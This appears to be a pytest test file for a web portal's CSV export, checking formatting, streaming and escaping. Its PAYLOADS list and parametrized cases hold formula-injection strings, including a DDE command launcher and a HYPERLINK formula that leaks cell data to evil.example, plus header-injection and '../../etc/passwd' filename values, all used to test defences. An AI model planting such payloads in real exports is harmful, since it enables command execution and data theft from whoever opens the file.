"""What stands in a CSV file, read back with Python's own reader."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from attribution_portal.exports import Column, Sheet, Value, csv_response

BERLIN = ZoneInfo("Europe/Berlin")
PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
]


def sheet(*rows: tuple[Value, ...], columns: int = 1) -> Sheet:
    heads = tuple(Column(f"Column {n}") for n in range(columns))
    return Sheet(name="any", title="Any", columns=heads, rows=rows, zone=BERLIN)


def content(made: Sheet) -> bytes:
    return b"".join(csv_response(made))


def rows(made: Sheet, delimiter: str = ",") -> list[list[str]]:
    text = content(made).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))


def test_numbers_days_and_instants_are_written_for_programs() -> None:
    made = sheet(
        (
            "Concert",
            18540,
            -3,
            Decimal("-1240.50"),
            Decimal("0.00"),
            Decimal("1E+3"),
            date(2026, 6, 1),
            datetime(2026, 6, 1, 22, 30, 5, tzinfo=UTC),
            None,
        ),
        columns=9,
    )
    assert content(made) == (
        b"\xef\xbb\xbf" + b",".join(b"Column %d" % n for n in range(9)) + b"\r\n"
        b"Concert,18540,-3,-1240.5,0,1000,2026-06-01,2026-06-02T00:30:05+02:00,\r\n"
    )


def test_a_sheet_without_rows_has_its_heads() -> None:
    assert content(sheet()) == b"\xef\xbb\xbfColumn 0\r\n"


def test_texts_come_back_as_they_were() -> None:
    texts = ['a "quoted" one', "a, b", "line\r\nbreak", "مرحبا", "🎷 Jazz", "<b>bold</b>", " blank ", "a-b", "a=b"]
    assert rows(sheet(*((text,) for text in texts)))[1:] == [[text] for text in texts]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_could_be_a_formula_has_an_apostrophe_before_it(payload: str) -> None:
    found = rows(sheet(("before", payload, "after"), columns=3))[1]
    assert found[0::2] == ["before", "after"]
    assert found[1].startswith("'")
    assert found[1].replace("'", "") == payload.replace("'", "")


def test_the_head_of_a_column_is_no_formula_either() -> None:
    made = Sheet(name="a", title="A", columns=(Column("=1+1"),), rows=(), zone=BERLIN)
    assert rows(made) == [["'=1+1"]]


@pytest.mark.parametrize("payload", ["a;=1+1", "a\t=1+1", "a\n=1+1", 'a;"=1+1', "a; ＝1", "x;-1;@y"])
def test_a_text_holds_no_formula_for_who_divides_by_other_signs(payload: str) -> None:
    for delimiter in (",", ";", "\t"):
        cells = [cell for row in rows(sheet(("x", payload), columns=2), delimiter) for cell in row]
        assert not [cell for cell in cells if re.match(r'["\s]*[=+\-@＝]', cell)]


signs = st.text(st.sampled_from("=+-@＝ \t\r\n;,\"'ab\u200b") | st.characters(exclude_categories=["Cs"]), max_size=12)


@given(st.lists(signs, min_size=1, max_size=4))
def test_no_text_whatsoever_begins_a_formula_or_loses_a_sign(texts: list[str]) -> None:
    made = sheet(("first", *texts), columns=len(texts) + 1)
    read = rows(made)[1]
    for text, cell in zip(texts, read[1:], strict=True):
        assert not re.match(r"[\s\u200b]*[=+\-@＝＋－＠]", cell)
        kept = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", "\ufffd", text)
        assert cell.replace("'", "") == kept.replace("'", "")
    for row in rows(made, ";")[1:]:
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_signs_that_no_file_can_hold_are_replaced() -> None:
    assert rows(sheet(("a\x00b\ud800c\x1bd\uffff",)))[1] == ["a\ufffdb\ufffdc\ufffdd\ufffd"]


def test_every_row_is_there_and_rows_are_taken_as_the_file_is_sent() -> None:
    taken = 0

    def endless() -> Iterator[tuple[Value, ...]]:
        nonlocal taken
        for number in range(60_000):
            taken = number + 1
            yield (number, "Concert")

    columns = (Column("n"), Column("title"))
    response = csv_response(Sheet(name="a", title="A", columns=columns, rows=endless(), zone=BERLIN))
    pieces = iter(response)
    next(pieces)
    assert taken <= 1000
    assert sum(piece.count(b"\r\n") for piece in pieces) + 500 + 1 == 60_001


@pytest.mark.parametrize(
    ("name", "filename"),
    [
        ("activity-partner-id-acme-2026-06-15", "activity-partner-id-acme-2026-06-15.csv"),
        ('Größe & "Quote"\r\nX-Injected: 1', "groe-quote-x-injected-1.csv"),
        ("../../etc/passwd", "etcpasswd.csv"),
        ("日本", "export.csv"),
    ],
)
def test_a_file_has_a_plain_name_and_is_never_shown_as_a_page(name: str, filename: str) -> None:
    response = csv_response(Sheet(name=name, title="A", columns=(Column("n"),), rows=(), zone=BERLIN))
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
